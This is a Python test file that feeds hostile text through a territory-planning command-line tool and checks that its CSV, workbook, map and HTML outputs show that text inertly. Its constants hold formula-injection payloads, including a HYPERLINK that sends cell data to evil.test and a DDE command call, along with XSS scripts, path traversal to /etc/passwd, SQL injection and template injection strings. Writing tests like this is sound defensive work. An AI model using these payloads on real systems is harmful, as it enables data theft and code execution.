"""Hostile values through a real run: whatever names hold, every file and page of it shows them as text."""

from __future__ import annotations

import csv
import io
import re
import runpy
from importlib.metadata import entry_points
from pathlib import Path
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner, Result
from selenium.webdriver import Keys
from selenium.webdriver.common.by import By

from territory_opt.report.tables import read_table
from territory_opt.report.workbook.cells import holdable

if TYPE_CHECKING:
    from tests.conftest import Page

(ENTRY,) = entry_points(group="console_scripts", name="territory-opt")
# Test folders are no packages, so a file that others share is run, not imported.
WRITE = runpy.run_path(str(Path(__file__).parent / "scenario" / "small_workspace.py"))["write_workspace"]

NAMES = (
    '=HYPERLINK("http://evil.test/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1-800", "-2+3", "@SUM(1)", "'=1",
    "\uff1d1+1", "bare\r=1+1", "two\n=1+1", "end\r\n", "</script><script>window.hacked=1;alert(1)</script>",
    "]]>", "<!--", "&lt;b&gt;", "<img src=x onerror=window.hacked=1>", "javascript:alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "`${alert(1)}`", "\\", '\\"', "{{ 7*7 }}", "{% for x in y %}", "$x_1$", "$\\frac{1}{0}$",
    "_x0041_", "%s %(a)s %", "../../etc/passwd", "C:\\x", "a:b|c*d?e", "nan", "NA", "None",
    "007", "1e5", "__proto__", "constructor", "[/] [red]x",
    "a\x01b\x07c", "esc\x1b[31mred\x1b[2J\x9b2J", "\u202egnp.exe", "\u2028line\u2029", "\ufffe",
    "\u05e9\u05dc\u05d5\u05dd", "\U0001f680" * 9, "L" * 10_000, "\U0001f680" * 5_000, "'; DROP TABLE x;--",
    "https://evil.test/?a=1&b=2", "moved", "all",
)  # fmt: skip
SEGMENTS = {
    "SMB": "../{{x}} $x_1$ %s \u202eS\u200f \U0001f680 \x1b[31m\x9b2J",
    "Mid-Market": '=HYPERLINK("http://evil.test")<script>alert(2)</script>|\\\'"',
}
REPS = (
    "=1+1",
    "</script><img src=x onerror=alert(3)>",
    "R" * 10_000,
    "../../x|y:z",
    "\u202eevil\x1b[31m\x9b2J",
    "@{{7*7}}",
)
TITLE = "</title><script>alert(4)</script> =1+1 \u202e\x1b[31m\n" + "T" * 10_000

STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
RUNS = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"-?[\d.]+(e-?\d+)?")


def _spoil(folder: Path) -> None:
    """Put hostile text wherever the workspace has text."""
    data = folder / "data"
    tables = {name: pd.read_csv(data / f"{name}.csv", dtype=str) for name in ("accounts", "reps", "bookings")}
    accounts, reps = tables["accounts"], tables["reps"]
    ring = [NAMES[row % len(NAMES)] for row in range(len(accounts))]
    keys = [text.strip() if row < len(NAMES) else f"{text[:20].strip()}#{row}" for row, text in enumerate(ring)]
    renamed = dict(zip(accounts["account_id"], keys, strict=True))
    people = dict(zip(reps["rep_id"], REPS, strict=True))
    tables["accounts"] = accounts.assign(
        account_id=keys,
        parent_id=accounts["parent_id"].map(renamed),
        name=ring[::-1],
        industry=ring[3:] + ring[:3],
        rep_id=accounts["rep_id"].map(people),
    )
    tables["reps"] = reps.assign(rep_id=list(REPS), name=[f"{rep[:9_990]} name" for rep in REPS])
    tables["decisions"] = pd.DataFrame({"account_id": keys[4:9:4], "rep_id": REPS[1::-1], "note": NAMES[10:12]})
    for name, table in tables.items():
        told = {"region": "@SUM(1)</script><script>alert(5)</script>"} if "region" in table else {}
        told |= {"segment": table["segment"].map(SEGMENTS)} if "segment" in table else {}
        table.assign(**told).to_csv(data / f"{name}.csv", index=False, quoting=csv.QUOTE_ALL)
    for file, told in (
        ("workspace.yaml", {"name": TITLE}),
        ("scenarios/today.yaml", {"title": TITLE, "description": TITLE}),
        ("scenarios/redesign.yaml", {"title": TITLE, "description": TITLE}),
    ):
        declared = yaml.safe_load((folder / file).read_text(encoding="utf-8"))
        (folder / file).write_text(yaml.safe_dump(declared | told), encoding="utf-8")


def _call(*words: str) -> Result:
    return CliRunner().invoke(ENTRY.load(), words, catch_exceptions=False)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a workspace of hostile text with two runs, their comparison, an approval and an export."""
    folder: Path = WRITE(tmp_path_factory.mktemp("hostile") / "{{x}} $y$ %s =1")
    _spoil(folder)
    leads = pd.read_csv(folder / "data" / "accounts.csv", dtype=str, keep_default_na=False).head(20)
    leads.assign(account_id=[f"lead {n}" for n in range(20)], parent_id="", rep_id="").to_csv(
        folder / "leads.csv", index=False, quoting=csv.QUOTE_ALL
    )
    place = ("-C", str(folder))
    for words in (
        ("run", "today", "redesign", "--jobs", "1"),
        ("compare", "today", "redesign"),
        (
            "approve",
            "redesign",
            "--by",
            TITLE[:80],
            "--note",
            TITLE,
            "--effective",
            "2027-04-01",
            "--despite-broken-rules",
        ),
        ("explain", NAMES[10], "--run", "redesign"),
        ("explain", "--rep", REPS[4], "--run", "redesign"),
        ("route", str(folder / "leads.csv"), "--out", str(folder / "routed.csv")),
        ("export", "redesign", "--to", str(folder / "out"), "--format", "csv", "--format", "geoparquet"),
    ):
        done = _call(*words, *place)
        assert done.exit_code in (0, 1), done.output
        assert not STEERING.search(done.stdout + done.stderr), words[0]
    return folder


@pytest.fixture(scope="module")
def accounts(workspace: Path) -> pd.DataFrame:
    """Return the accounts as the product reads them: text without blanks at its ends, empty text as missing."""
    read = pd.read_csv(workspace / "data" / "accounts.csv", dtype=str, keep_default_na=False)
    return read.apply(lambda column: column.str.strip()).set_index("account_id")


def test_csv_files_run_nothing_and_give_texts_back(workspace: Path, accounts: pd.DataFrame) -> None:
    """No cell begins as a formula does, no carriage return stands outside quotes; keys for a CRM are exact."""
    run = workspace / "runs" / "redesign"
    for path in (
        *run.glob("*.csv"),
        *(workspace / "approved").rglob("*.csv"),
        *(workspace / "out").glob("*.csv"),
        workspace / "routed.csv",
    ):
        text = path.read_bytes().decode()
        assert "\r" not in re.sub(r'"[^"]*"', "", text), path
        for_crm = path.parent.name == "out" or path.name == "routed.csv"
        for row in csv.DictReader(io.StringIO(text, newline="")):
            cells = [cell for name, cell in row.items() if not (for_crm and name.endswith("_id"))]
            assert not [cell for cell in cells if RUNS.match(cell) and not NUMBER.fullmatch(cell)], path
    written = read_table(run / "assignments.csv").set_index("account_id")
    assert written.index.sort_values().tolist() == sorted(accounts.index)
    assert written["account"].to_dict() == accounts["name"].to_dict()
    owners = pd.read_csv(workspace / "out" / "account_owners.csv", dtype=str, keep_default_na=False)
    assert sorted(owners["account_id"]) == sorted(accounts.index)
    assert set(owners["owner_rep_id"]) <= set(REPS)


def test_the_workbook_holds_texts(workspace: Path, accounts: pd.DataFrame) -> None:
    """It has no formula and no link out, and what a cell can hold comes back."""
    book = openpyxl.load_workbook(workspace / "runs" / "redesign" / "report.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert all(cell.hyperlink is None or cell.hyperlink.target is None for cell in cells)
    rows = book["Assignments"].iter_rows(min_row=2, max_col=2, values_only=True)
    held = {holdable(key): holdable(name) for key, name in accounts["name"].items()}
    assert {key: name for key, name in rows if key in held} == held


def test_map_files_hold_texts(workspace: Path) -> None:
    """Every format has sound geometry and the same names; the drawing is plain XML without scripts."""
    run = workspace / "runs" / "redesign"
    names = {rep.strip()[:9_990] + " name" for rep in REPS}
    short = {name[:100] for name in names}
    for frame in (
        gpd.read_file(run / "territories.geojson"),
        gpd.read_file(run / "territories.gpkg", layer="territories"),
        gpd.read_parquet(workspace / "out" / "territories.parquet"),
    ):
        assert frame.geometry.is_valid.all()
        assert set(frame["name"].str[:100]) <= short
    drawing = (run / "map.svg").read_text(encoding="utf-8")
    assert not [part for part in ET.fromstring(drawing).iter() if part.tag.endswith("script")]


@pytest.mark.browser
@pytest.mark.parametrize("width", [600, 1400])
@pytest.mark.parametrize("name", ["redesign/report.html", "redesign/map.html", "comparison.html"])
def test_pages_show_texts(browser: Page, workspace: Path, name: str, width: int) -> None:
    """Nothing runs, is asked for or complains; the page is as wide as the screen, and its title takes a part of it."""
    driver = browser.open(workspace / "runs" / name)
    screen = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False}
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", screen)
    try:
        assert driver.execute_script("return window.hacked") is None
        assert (
            driver.execute_script("return document.querySelectorAll('img[src=x], a[href^=http], a[href^=java]').length")
            == 0
        )
        assert driver.execute_script("return document.documentElement.scrollWidth") <= width
        assert driver.find_element(By.CSS_SELECTOR, "h1, #runs h3").rect["height"] < 300
        assert "</title><script>alert(4)</script>" in driver.find_element(By.TAG_NAME, "body").text
        if name.endswith("map.html"):
            box = driver.find_element(By.ID, "search")
            driver.execute_script("arguments[0].value = arguments[1]", box, NAMES[10][:-1])
            box.send_keys(NAMES[10][-1])
            assert NAMES[10] in driver.find_element(By.ID, "hits").text
            box.send_keys(Keys.ENTER)
        assert len(browser.requests()) == 1
        assert browser.complaints() == []
    finally:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
